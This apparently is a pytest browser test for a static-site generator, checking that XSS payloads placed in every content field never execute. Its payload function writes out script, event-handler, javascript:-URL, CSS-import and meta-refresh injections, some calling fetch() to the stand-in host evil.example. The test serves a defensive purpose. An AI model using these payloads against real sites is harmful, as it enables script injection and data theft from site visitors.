"""Script never runs: a site with an XSS payload in every field, opened in Debian's chromium.

Every editor-written field carries payloads that would, if any got through, open a dialog, log to
the console or make a request off the local server. The page is loaded, every element gets the
events inline handlers listen to (synthetic events run inline handlers), and we check that no
dialog opened, nothing was logged and every request went to the local server.
"""

from __future__ import annotations

import hashlib
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import MINIMAL, SEED, make_project, serve_folder
from playwright.sync_api import Error as PlaywrightError

from explainer.errors import BuildError
from explainer.pipeline import build

EVIL = "http://evil.example"


def payload(field: str) -> str:
    """Every way we know to run script or fetch something, each tagged with the field it sits in."""
    call = f"alert('{field}');console.log('{field}');fetch('{EVIL}/{field}')"
    return (
        f"<script>{call}</script><img src=x onerror=\"{call}\"><svg onload=\"{call}\"></svg>"
        f"<iframe src=\"javascript:{call}\"></iframe><iframe src=\"{EVIL}/frame-{field}\"></iframe>"
        f"<a href=\"javascript:{call}\">a-{field}</a><p onmouseover=\"{call}\" onfocus=\"{call}\">p</p>"
        f"<style>@import url({EVIL}/css-{field}); body{{background:url({EVIL}/bg-{field})}}</style>"
        f"<link rel=stylesheet href={EVIL}/link-{field}><meta http-equiv=refresh content=\"0;url={EVIL}/\">"
        f"<base href={EVIL}/><object data={EVIL}/obj-{field}></object><embed src={EVIL}/embed-{field}>"
        f"\"><script>{call}</script>'><img src=x onerror={call}> {{{{ 7*7 }}}} [x](javascript:{call})"
    )


def yaml_str(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


# The fixture project's other facts, as they are: only the first fact carries payloads.
_FACTS = MINIMAL["content/facts.yaml"]
UNTOUCHED_FACTS = textwrap.dedent(_FACTS[_FACTS.index("        - id: swap-sizes"):])


def hostile_project(root: Path) -> Path:
    """The tests' small project with a payload in every text field (and the quotes in their source)."""
    quote = payload("quote")
    seed_extra = "\n" + quote + "\n"  # appended to the archive below: its sha256 is recorded with it
    files = {
        "site.yaml": f"""\
            title: {yaml_str(payload("site-title"))}
            description: {yaml_str(payload("description"))}
            publisher: {yaml_str(payload("publisher"))}
            language: en
            base_url: https://example.org/test/
            updated: 2025-06-01
            topics:
              - {{id: captures, label: {yaml_str(payload("topic"))}}}
              - {{id: exchanges, label: Exchanges}}
            charts:
              - {{series: captured, title: {yaml_str(payload("chart"))}, description: {yaml_str(payload("chart-d"))}}}
            """,
        "content/sources.yaml": f"""\
            - id: article-a
              title: {yaml_str(payload("source-title"))}
              publisher: {yaml_str(payload("source-publisher"))}
              author: {yaml_str(payload("author"))}
              published: 2025-05-26
              url: 'https://example.org/a?q="><script>alert(1)</script>'
              retrieved: null
              archive: a.txt
              label: {yaml_str(payload("source-label"))}
              sha256: {hashlib.sha256((SEED + seed_extra).encode("utf-8")).hexdigest()}
              note: {yaml_str(payload("note"))}
            """,
        "content/facts.yaml": textwrap.dedent(f"""\
            - id: sbu-102
              claim: {yaml_str(payload("claim"))}
              attribution: {yaml_str(payload("attribution"))}
              date: 2024-08
              approximate: true
              date_note: {yaml_str(payload("date-note"))}
              topics: [captures]
              citations:
                - source: article-a
                  quote: {yaml_str(quote)}
              figure: {{series: captured, value: 102, qualifier: {yaml_str(payload("qualifier"))},
                        label: {yaml_str(payload("label"))}}}
            """) + UNTOUCHED_FACTS,
        "content/timeline.yaml": f"""\
            - date: 2025-05-25
              title: {yaml_str(payload("event-title"))}
              text: {yaml_str(payload("event-text"))}
              date_note: {yaml_str(payload("event-date-note"))}
              facts: [general-staff-971]
            - date: 2024-08
              title: SBU captures
              text: Mass captures reported.
              facts: [sbu-102]
            """,
        "content/comparisons.yaml": f"""\
            - id: captures-changed
              kind: change
              title: {yaml_str(payload("comparison-title"))}
              text: {yaml_str(payload("comparison-text") + " [[sbu-102]]")}
              facts: [sbu-102, general-staff-971]
            """,
        "content/glossary.yaml": f"""\
            - id: sbu
              term: {yaml_str(payload("term"))}
              definition: {yaml_str(payload("definition"))}
              facts: [sbu-102]
            """,
        "content/summaries/01-intro.md": f"""\
            ---
            title: {yaml_str(payload("summary-title"))}
            order: 1
            ---
            {payload("summary")} [[general-staff-971]]

            {payload("summary-2")} [[sbu-102]]

            Swaps were small.[[swap-sizes]][[sbu-102]]
            """,
    }
    project = make_project(root, files)
    with open(root / "seeds" / "a.txt", "a", encoding="utf-8") as seed:
        seed.write(seed_extra)
    return project.root



@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    root = hostile_project(tmp_path_factory.mktemp("xss") / "site")
    try:
        build(root, root / "output")
    except BuildError as exc:
        pytest.fail("the hostile site must build:\n" + "\n".join(p.format() for p in exc.problems))
    with serve_folder(root / "output") as url:
        yield url


FIRE_EVENTS = """() => {
  const names = ["mouseover", "mouseenter", "focus", "blur", "error", "load", "animationstart", "pointerdown",
                 "keydown", "input", "toggle"];
  let n = 0;
  for (const el of document.querySelectorAll("*")) {
    for (const name of names) { el.dispatchEvent(new Event(name)); n++; }
  }
  return n;
}"""


@pytest.mark.browser
def test_no_payload_script_runs(browser, hostile_site: str) -> None:
    context = browser.new_context(java_script_enabled=True)
    page = context.new_page()
    dialogs: list[str] = []
    console: list[str] = []
    requests: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("console", lambda m: console.append(f"{m.type}: {m.text}"))
    page.on("pageerror", lambda e: console.append(f"pageerror: {e}"))
    context.on("request", lambda r: requests.append(r.url))
    context.route("**/*", lambda route: route.continue_() if route.request.url.startswith(hostile_site)
                  else route.abort())
    navigations: list[str] = []
    page.on("framenavigated", lambda frame: navigations.append(frame.url))
    page.goto(hostile_site, wait_until="load")
    try:
        fired = page.evaluate(FIRE_EVENTS)
        page.wait_for_load_state("networkidle")
        title = page.title()
        hrefs = page.eval_on_selector_all("a[href]", "els => els.map(e => e.protocol)")
    except PlaywrightError as exc:  # the page navigated away (a refresh or script): report what ran first
        fired, title, hrefs = 0, f"(lost: {exc.message})", []
    context.close()

    assert dialogs == []
    assert [url for url in navigations if not url.startswith(hostile_site)] == []
    assert console == []
    assert [url for url in requests if not url.startswith(hostile_site)] == []
    assert set(hrefs) <= {"http:", "https:"}, hrefs
    assert title.startswith("<script>"), f"the title should show the payload as text, not {title!r}"
    assert fired > 1000, "the events reached too few elements to prove anything"
